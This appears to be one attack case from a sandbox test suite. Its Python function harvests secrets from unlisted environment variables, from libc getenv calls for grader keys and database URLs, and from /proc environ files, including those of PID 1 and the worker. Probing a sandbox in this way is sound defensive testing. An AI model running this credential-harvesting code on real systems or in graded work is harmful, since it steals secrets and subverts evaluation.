# /// attack
# tries = "Read secrets from the environment: Python's view, the C library's, and the kernel's."
# verdicts = ["accepted"]
# ///
def attack(root, worker):
    known = {"PATH", "HOME", "LANG", "PWD", "LD_LIBRARY_PATH", "PYTHONHASHSEED", "PYTHONDONTWRITEBYTECODE",
             "LD_BIND_NOW", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "LC_CTYPE"}
    LOOT.extend(f"{key}={value}" for key, value in os.environ.items() if key not in known)
    _libc.getenv.restype = ctypes.c_char_p
    for name in (b"GRADER_ATTACK_CANARY", b"GRADER_SECRET_KEY", b"GRADER_DATABASE_URL", b"USER"):
        if _libc.getenv(name):
            LOOT.append(name.decode())
    for pid in ("self", "1", worker):
        attempt(f"environ of {pid}", lambda: open(f"/proc/{pid}/environ").read())
    return LOOT
